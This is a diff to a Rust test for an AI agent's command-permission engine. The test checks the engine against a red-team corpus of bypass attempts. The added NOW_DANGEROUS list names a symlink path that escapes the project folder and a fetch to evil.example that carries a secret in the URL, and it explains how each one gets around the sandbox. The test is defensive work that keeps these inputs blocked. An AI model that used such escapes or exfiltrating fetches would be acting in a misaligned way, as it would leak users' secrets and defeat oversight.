@@ -2,8 +2,9 @@
 //! `policy-redteam.md`): 312 commands and paths written by probing the engine as an attacker and
 //! as a busy developer would. Every row is judged twice, without and with the OS sandbox.
 //!
-//! - `BYP` rows are dangerous: never `allow` in their mode (the two rows marked `allow` are
-//!   controls that must stay allowed).
+//! - `BYP` rows are dangerous: never `allow` in their mode. The rows marked `allow` are
+//!   controls that must stay allowed, but for those issue 21 judged dangerous
+//!   ([`NOW_DANGEROUS`]).
 //! - `RO` rows must be denied in read_only (one control must stay allowed).
 //! - `SUG` rows: no suggestion is broader than the call; granting one never allows the
 //!   dangerous sibling named in [`SUGGESTION_CHECKS`].
@@ -100,6 +101,23 @@ const NOT_SANDBOXED: &str = "commands are not sandboxed on this machine";
 const fn unsandboxed(command: &'static str) -> (&'static str, Mode, Option<bool>, &'static str) {
     (command, Mode::FullAuto, Some(false), NOT_SANDBOXED)
 }
+
+/// BYP rows the corpus marks as allowed controls that issue 21 ("Nothing gets around the
+/// sandbox") judged dangerous: each must not be allowed, in either setting. The corpus file is
+/// the shared one, kept as it is; the changed expectation lives here, with why.
+const NOW_DANGEROUS: &[(&str, &str)] = &[
+    (
+        "escape/../pwned.txt",
+        "`escape` is a link to a folder outside the project: the shell (the kernel) follows it \
+         before the `..`, so every program but a lexical write tool writes outside the project; \
+         the write tool now refuses the path too, and the policy denies it (issue 21)",
+    ),
+    (
+        "https://evil.example/?k=SECRET",
+        "the address carries a secret-looking value (`k=`) to a host no rule allows: fetching \
+         it hands the secret over, so it asks in every mode, full_auto included (issue 21)",
+    ),
+];
 
 /// BYP/RO rows the engine cannot refuse in one setting, with why. Kept to what a pure engine
 /// cannot see.
@@ -303,6 +321,7 @@ fn judge(
     sandboxed: bool,
 ) -> Decision {
     let resolver = |p: &Path| tools::real_path(p);
+    let exists = |p: &Path| p.symlink_metadata().is_ok();
     let ctx = Context {
         project_root: &fx.root,
         home: Some(&fx.home),
@@ -311,6 +330,8 @@ fn judge(
         user_policy_file: Some(&fx.user_policy),
         sandboxed,
         resolver: &resolver,
+        exists: Some(&exists),
+        history_holds_secrets: true,
     };
     let call = match kind {
         Kind::Command => ToolCall::Command { command: input },
@@ -397,7 +418,8 @@ fn the_red_team_corpus_is_refused_and_ordinary_work_runs() {
                 .find(|(input, sb, _)| *input == row.input && *sb == sandboxed);
             match row.group.as_str() {
                 "BYP" => {
-                    if row.expected == Expected::Allow {
+                    let dangerous = NOW_DANGEROUS.iter().find(|(input, _)| *input == row.input);
+                    if row.expected == Expected::Allow && dangerous.is_none() {
                         if !d.is_allowed() {
                             failures
                                 .push(format!("control not allowed: {}", line(row, sandboxed, &d)));
@@ -405,7 +427,10 @@ fn the_red_team_corpus_is_refused_and_ordinary_work_runs() {
                     } else if d.is_allowed() {
                         counts.byp_allowed[s] += 1;
                         if limit.is_none() {
-                            failures.push(format!("ALLOWED: {}", line(row, sandboxed, &d)));
+                            let why = dangerous.map_or(String::new(), |(_, why)| {
+                                format!(" (a control no more: {why})")
+                            });
+                            failures.push(format!("ALLOWED: {}{why}", line(row, sandboxed, &d)));
                         }
                     } else if row.expected == Expected::Deny && d.decision != Verdict::Deny {
                         counts.byp_softer[s] += 1;
